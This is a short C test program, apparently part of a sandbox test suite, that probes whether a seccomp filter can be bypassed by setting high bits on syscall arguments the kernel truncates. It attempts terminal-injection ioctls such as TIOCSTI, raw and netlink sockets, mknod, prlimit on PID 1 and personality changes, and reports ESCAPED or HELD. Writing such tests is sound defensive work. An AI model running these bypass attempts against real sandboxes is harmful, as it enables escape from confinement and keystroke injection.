// attack: sets bits above the lower 32 of arguments that the filter compares and the kernel cuts off
// family: kernel surface
// walls: seccomp
// without: escaped
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char seen[512];

static void attempt(const char *label, long result) {
    if (result >= 0) {
        printf("ESCAPED: %s gave %ld\n", label, result);
        fflush(stdout);
        _exit(0);
    }
    snprintf(seen + strlen(seen), sizeof seen - strlen(seen), "%s %s ", label, strerrorname_np(errno));
}

int main(void) {
    const unsigned long high = 1UL << 32;
    int terminal = posix_openpt(O_RDWR | O_NOCTTY);
    char typed = 'x';
    attempt("TIOCSTI", syscall(SYS_ioctl, terminal, 0x5412 | high, &typed));
    attempt("TIOCLINUX", syscall(SYS_ioctl, terminal, 0x541c | high, &typed));
    attempt("TIOCSETD", syscall(SYS_ioctl, terminal, 0x5423 | high, &typed));
    attempt("netlink", syscall(SYS_socket, 16 | high, 3, 0));
    attempt("raw", syscall(SYS_socket, 2 | high, 3 | high, 255));
    attempt("mknod", syscall(SYS_mknodat, AT_FDCWD, "node", 020666 | high, 0x101));
    attempt("prlimit", syscall(SYS_prlimit64, 1 | high, 7, NULL, NULL));
    attempt("personality", syscall(SYS_personality, 0x0040000 | high));
    printf("HELD: %s\n", seen);
    return 0;
}
